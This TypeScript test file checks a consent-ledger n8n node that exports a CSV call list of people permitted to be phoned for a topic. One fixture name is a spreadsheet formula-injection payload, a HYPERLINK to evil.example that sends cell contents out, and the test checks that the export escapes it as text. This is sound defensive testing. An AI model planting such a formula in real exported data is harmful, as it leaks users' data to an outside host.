// The Consent Ledger node's Export Call List inside the real n8n engine: a CSV file in a binary
// field, with the people the ledger allows on the phone for the topic and CallPro's opt-in fields.
import { ImportRowSchema } from '../../core/ledger';
import { parseInput } from '../../core/validation';
import { closeLedgers } from '../../nodes/shared/ledger-connection';
import { tempLedger } from '../support/ledger';
import { disposeEngine, ensureN8nHostForEngine, runWorkflow } from '../support/n8n-engine';
import { ledgerCredential, node, runOptions, start, workflow } from './support';

let t: Awaited<ReturnType<typeof tempLedger>>;

beforeAll(async () => {
  await ensureN8nHostForEngine();
  t = await tempLedger();
  const rows = [
    { name: 'Anna de Vries', phone: '0611111111', topic: 'calls', channel: 'phone', status: 'subscribed', basis: 'consent', optinWho: 'Anna de Vries', optinSource: 'beurs', optinDate: '2026-03-01', optinId: 'F-1', optinDescription: 'zei ja' },
    { name: '=HYPERLINK("https://evil.example/?"&A1)', phone: '+31622222222', topic: 'calls', channel: 'phone', status: 'subscribed', basis: 'consent', optinWho: '@Jan', optinId: 'F-2' },
    { name: 'Bert', phone: '+31633333333', topic: 'calls', channel: 'phone', status: 'subscribed', basis: 'legitimate_interest' },
    { name: 'Cees', phone: '+31644444444', topic: 'calls', channel: 'phone', status: 'unsubscribed' },
    { name: 'Dirk', phone: '+31655555555', topic: 'newsletter', channel: 'phone', status: 'subscribed', basis: 'consent', optinId: 'F-5' },
    { name: 'Eva', email: 'eva@example.test', topic: 'calls', channel: 'email', status: 'subscribed', basis: 'consent', optinId: 'F-6' },
  ];
  await t.ledger.importContacts(rows.map((r, i) => ({ row: i + 2, data: parseInput(ImportRowSchema, r) })), undefined);
}, 20 * 60_000);

afterAll(async () => {
  await closeLedgers();
  await t?.dispose();
  await disposeEngine();
});

test('Export Call List: one CSV file per item, only the people allowed on the phone, formulas made text', async () => {
  const result = await runWorkflow(
    workflow(
      [start(), node('Consent Ledger', 'consentLedger', { resource: 'ledger', operation: 'exportCallList', topic: '={{ $json.topic }}', binaryPropertyName: 'callList' })],
      [['Start', 'Consent Ledger']],
    ),
    runOptions({ consentLedgerApi: ledgerCredential(t.path) }, { items: [{ topic: 'calls' }, { topic: 'events' }] }),
  );

  expect(result.status).toBe('success');
  const [calls, events] = result.output('Consent Ledger');
  expect(calls.json).toEqual({ topic: 'calls', channel: 'phone', people: 2, fileName: 'call-list-calls.csv' });
  expect(calls.pairedItem).toEqual({ item: 0 });
  expect(calls.binary?.callList).toMatchObject({ fileName: 'call-list-calls.csv', mimeType: 'text/csv', fileExtension: 'csv' });
  expect(Buffer.from(calls.binary!.callList.data, 'base64').toString('utf8')).toBe(
    [
      '\uFEFFname,phone,optin_who,optin_source,optin_date,optin_id,optin_description',
      'Anna de Vries,+31611111111,Anna de Vries,beurs,2026-03-01,F-1,zei ja',
      `"'=HYPERLINK(""https://evil.example/?""&A1)",+31622222222,'@Jan,import,2026-11-23,F-2,`,
      '',
    ].join('\r\n'),
  );
  expect(events.json).toMatchObject({ topic: 'events', people: 0 });
  expect(Buffer.from(events.binary!.callList.data, 'base64').toString('utf8')).toBe(
    '\uFEFFname,phone,optin_who,optin_source,optin_date,optin_id,optin_description\r\n',
  );
});

test('a wrong topic is an error naming the item', async () => {
  const result = await runWorkflow(
    workflow([start(), node('Consent Ledger', 'consentLedger', { resource: 'ledger', operation: 'exportCallList', topic: '??' })], [['Start', 'Consent Ledger']]),
    runOptions({ consentLedgerApi: ledgerCredential(t.path) }),
  );
  expect(result.status).toBe('error');
  expect(result.error?.message).toContain('item 0, topic');
});
